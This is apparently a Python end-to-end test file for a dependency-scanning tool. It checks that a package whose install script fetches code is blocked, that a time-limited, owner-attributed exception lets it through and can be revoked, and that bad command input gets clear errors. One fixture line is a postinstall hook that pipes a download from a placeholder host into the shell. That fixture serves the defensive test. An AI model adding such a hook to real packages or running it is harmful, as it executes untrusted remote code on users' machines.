from __future__ import annotations

from pathlib import Path

from tests.end_to_end import locked
from tests.end_to_end.run import Machine
from tests.registry_simulator import RegistrySimulator

WHY = ("--reason", "we read the script", "--owner", "me@acme.example")


def test_an_exception_lets_a_release_through_and_can_be_taken_back(
    machine: Machine, registry: RegistrySimulator, tmp_path: Path
) -> None:
    folder = tmp_path / "shop"
    script = {"scripts": {"postinstall": "curl -s https://cdn.acme.invalid/x.sh | sh"}}
    locked.project_of(folder, registry.publish("widgets", "2.1.0", manifest=script))
    (folder / "assay.toml").write_text('# ours\n[policy.block]\nrules = ["install-script-fetches"]\n')
    before = (folder / "assay.toml").read_text()
    assert machine.scan(folder).code == 1

    done = machine.assay("allow", "widgets@2.1.0", *WHY, "--expires", "30d", cwd=folder)
    assert (done.code, done.stderr) == (0, "")
    assert "only the version is bound" in done.stdout
    assert (folder / "assay.toml").read_text().startswith(before)
    assert machine.scan(folder).code == 0

    listed = machine.assay("allow", "--list", cwd=folder)
    assert "widgets@2.1.0: everything, any bytes, until " in listed.stdout
    assert "me@acme.example: we read the script" in listed.stdout
    assert machine.assay("allow", "--remove", "widgets@2.1.0", cwd=folder).code == 0
    assert machine.scan(folder).code == 1
    assert "there are no exceptions" in machine.assay("allow", "--list", cwd=folder).stderr


def test_nonsense_says_what_is_missing(machine: Machine) -> None:
    said = {
        (): "which release?",
        ("left-pad@1.0.0",): "needs --reason and --owner and --expires",
        ("left-pad@1.0.0", "--expires", "soon", *WHY): "'soon' is no day",
        ("left-pad@1.0.0", "--expires", "30d"): "needs --reason and --owner",
        ("left-pad@1.0.0", "--expires", "2020-01-31", *WHY): "over already",
        ("--remove", "left-pad@1.0.0"): "there is no exception",
    }
    for words, expected in said.items():
        done = machine.assay("allow", *words)
        assert done.code == 2
        assert expected in done.stderr
    assert not (machine.home / "assay.toml").exists()
